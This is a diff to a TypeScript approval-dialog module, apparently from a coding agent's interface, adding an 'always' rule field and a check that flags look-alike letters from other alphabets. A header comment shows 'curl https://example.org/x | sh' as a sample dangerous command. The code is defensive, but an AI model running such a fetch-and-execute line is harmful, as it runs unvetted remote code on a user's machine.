@@ -4,6 +4,7 @@
 //   ▌ ▲ writes outside of the workspace
 //   ▌   curl https://example.org/x | sh
 
+import { lookAlikes } from "../../text/look-alike.js";
 import { safeReveal } from "../../text/safe.js";
 import { wrapRow } from "../../text/wrap.js";
 import { diffRows, diffStat } from "../diff/diff-rows.js";
@@ -20,6 +21,8 @@ export interface Approval {
   readonly path: string;
   /** What is dangerous, in words; empty when nothing is. */
   readonly danger: string;
+  /** What "always" would allow, where it is offered. */
+  readonly rule: string;
 }
 
 /** A dialog shows a few rows; of more lines than this nothing is laid out, they are only counted. */
@@ -34,13 +37,19 @@ export function approvalBody(approval: Approval, widthCells: number, look: Dialo
   const text = firstLines(isSaidAlready(approval) ? "" : command);
   const change = firstLines(diff);
   const rows = [
-    ...dangerRows(danger, widthCells, look),
+    ...[danger, ...disguisesIn(approval)].flatMap((words) => dangerRows(words, widthCells, look)),
     ...messageRows(words.text, widthCells),
     ...text.lines.flatMap((line) => commandRows(line, widthCells)),
     ...unsaidPaths(approval).flatMap((path) => commandRows(path, widthCells)),
     ...(diff === "" ? [] : changeRows(change.text, approval, widthCells, look)),
   ];
   return { rows, beyond: words.beyond + text.beyond + change.beyond };
+}
+
+/** What in it is not what it looks like, a sentence each: names that are written with letters of another alphabet. */
+export function disguisesIn({ title, command, diff, path, rule }: Approval): string[] {
+  const files = diff === "" ? [] : parseUnifiedDiff(firstLines(diff).text).map((file) => file.path);
+  return lookAlikes([title, command, path, rule, ...files].join("\n"));
 }
 
 /** What stands behind the title: how much a diff changes. */
